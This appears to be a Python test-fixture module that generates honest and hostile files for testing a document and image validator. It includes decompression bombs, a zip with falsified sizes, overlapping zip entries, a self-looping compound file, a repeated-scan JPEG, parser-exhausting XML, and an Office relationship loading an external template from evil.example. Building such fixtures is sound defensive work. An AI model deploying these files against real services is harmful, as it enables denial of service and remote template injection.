"""Files made on the spot: honest ones of every kind, and hostile ones."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

CONTENT_TYPES = '<?xml version="1.0"?><Types><Override ContentType="application/vnd.{}.main+xml"/></Types>'
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
GPS = 0x8825


def archive(parts, *, compression=zipfile.ZIP_DEFLATED):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return target.getvalue()


def office(kind="docx", *, content_type="openxmlformats", **more):
    parts = {"[Content_Types].xml": CONTENT_TYPES.format(content_type), MAIN[kind]: "<document>내용</document>"}
    return archive({**parts, **{name.replace("__", "/"): content for name, content in more.items()}})


def office_with(kind, parts):
    return archive({"[Content_Types].xml": CONTENT_TYPES.format("x"), MAIN[kind]: "<d/>", **parts})


def hwpx():
    return archive({"mimetype": "application/hwp+zip", "Contents/content.hpf": "<opf/>", "version.xml": "<v/>"})


def compound(streams=("Root Entry", "FileHeader", "DocInfo", "BodyText"), signature=b"HWP Document File"):
    """The least that counts as an old compound file: a header, one allocation sector, one directory sector."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HH", header, 28, 0xFFFE, 9)
    struct.pack_into("<I", header, 48, 1)
    struct.pack_into("<109I", header, 76, 0, *[0xFFFFFFFF] * 108)
    allocation = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *[0xFFFFFFFF] * 126)
    directory = b"".join(_entry(name) for name in streams).ljust(512, b"\x00")
    return bytes(header) + allocation + directory[:512] + signature.ljust(512, b"\x00")


def _entry(name):
    encoded = name.encode("utf-16-le") + b"\x00\x00"
    return encoded.ljust(64, b"\x00") + struct.pack("<H", len(encoded)) + bytes(62)


def endless_compound():
    content = bytearray(compound())
    struct.pack_into("<I", content, 512 + 4, 1)
    return bytes(content)


def pdf(inside=b"/Type /Catalog"):
    return b"%PDF-1.7\n1 0 obj\n<< " + inside + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def picture(kind="JPEG", size=(640, 480), mode="RGB", **options):
    target = io.BytesIO()
    Image.new(mode, size, (10, 120, 200, 128)[: len(mode)]).save(target, kind, **options)
    return target.getvalue()


def telling_jpeg(orientation=6, size=(640, 480)):
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "SecretPhone"
    exif.get_ifd(GPS).update({1: "N", 2: (37.0, 30.0, 12.0), 3: "E", 4: (126.0, 54.0, 3.0)})
    return picture(size=size, exif=exif.tobytes(), comment=b"hidden comment")


def telling_png():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "SecretPerson")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>SecretPlace</x:xmpmeta>")
    return picture("PNG", pnginfo=info)


def png_chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_bomb(side=60_000):
    """A picture that says it is enormous and packs its rows into next to nothing."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    rows = png_chunk(b"IDAT", zlib.compress(bytes(1024 * 1024), 9))
    return b"\x89PNG\r\n\x1a\n" + header + rows + png_chunk(b"IEND", b"")


def jpeg_of_many_passes(passes=2_000):
    """One pass over all points, of a few bytes, again and again: each takes as long as a true one."""
    honest = picture("JPEG", (2_000, 2_000), "L", progressive=True)
    last = honest[honest.rindex(b"\xff\xda") : -2]
    return honest[:-2] + last * passes + honest[-2:]


def png_text_bomb():
    text = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(200 * 1024 * 1024), 9))
    honest = picture("PNG", (8, 8))
    return honest[:33] + text + honest[33:]


def zip_bomb():
    return office_with("docx", {"word/media/zeros.bmp": bytes(150 * 1024 * 1024)})


def lying_zip_bomb():
    """Announces ten bytes where there are thirty million."""
    content = bytearray(office_with("xlsx", {"xl/media/zeros.bmp": bytes(30 * 1024 * 1024)}))
    real = struct.pack("<I", 30 * 1024 * 1024)
    position = content.find(real)
    while position >= 0:
        content[position : position + 4] = struct.pack("<I", 10)
        position = content.find(real)
    return bytes(content)


def many_entries():
    return office_with("docx", {f"word/media/{number}.xml": "" for number in range(6_000)})


def overlapping_zip():
    """Many directory entries that all point at one part."""
    content = office_with("docx", {"word/media/a.bin": bytes(2 * 1024 * 1024)})
    end = content.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", content[end + 10 : end + 20])
    directory = content[start : start + size]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"a.bin", f"{number:05}".encode()) for number in range(3000))
    tail = bytearray(content[end:])
    struct.pack_into("<HHII", tail, 8, count + 3000, count + 3000, size + len(copies), start)
    return content[:start] + directory + copies + bytes(tail)


def encrypted_zip():
    content = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = content.find(mark)
        while position >= 0:
            content[position + offset] |= 1
            position = content.find(mark, position + 4)
    return bytes(content)


def endless_relationships():
    """Tags that never end: a search over the whole would begin anew at each of them."""
    return "<Relationship TargetMode='External' " * 1_800


def relationship(kind, target="https://evil.example/x.dotm"):
    return (
        '<?xml version="1.0"?><Relationships><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
